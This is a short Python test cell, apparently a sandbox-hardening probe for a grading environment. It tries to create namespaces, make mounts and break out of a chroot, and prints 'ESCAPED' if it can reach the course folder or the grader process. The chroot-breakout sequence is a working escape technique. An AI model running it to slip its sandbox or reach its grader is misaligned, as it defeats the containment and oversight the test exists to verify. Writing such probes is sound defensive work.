# Makes namespaces of its own, mounts, and climbs out of a changed root.
# deserves: nothing

# %%
import ctypes
import os

pid = os.fork()
if pid == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    steps = []
    for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000)):
        if libc.unshare(flag) == 0:
            steps.append(name)
    # Where the sandbox is broken, the mounts must not spread to the machine.
    apart = libc.mount(b"none", b"/", None, 0x44000, None) == 0
    for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"x", b"/tmp", b"tmpfs"), (b"/", b"/tmp", None)):
        if apart and libc.mount(source, target, kind, 0x1000 if kind is None else 0, None) == 0:
            steps.append(f"mount {target}")
    try:
        os.makedirs("inner", exist_ok=True)
        up = os.open("/", os.O_RDONLY)
        os.chroot("inner")
        os.fchdir(up)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        steps.append("chroot")
    except OSError as error:
        print(error)
    print("took", steps)
    if steps:
        print("ESCAPED: may make namespaces or mounts:", steps)
    if os.path.isdir("COURSE_FOLDER") or os.path.isdir(f"/proc/{int('GRADER_PID')}"):
        print("ESCAPED: the course or the grader is in sight")
    import sys

    sys.stdout.flush()
    __import__("time").sleep(0.3)
    os._exit(0)
os.waitpid(pid, 0)
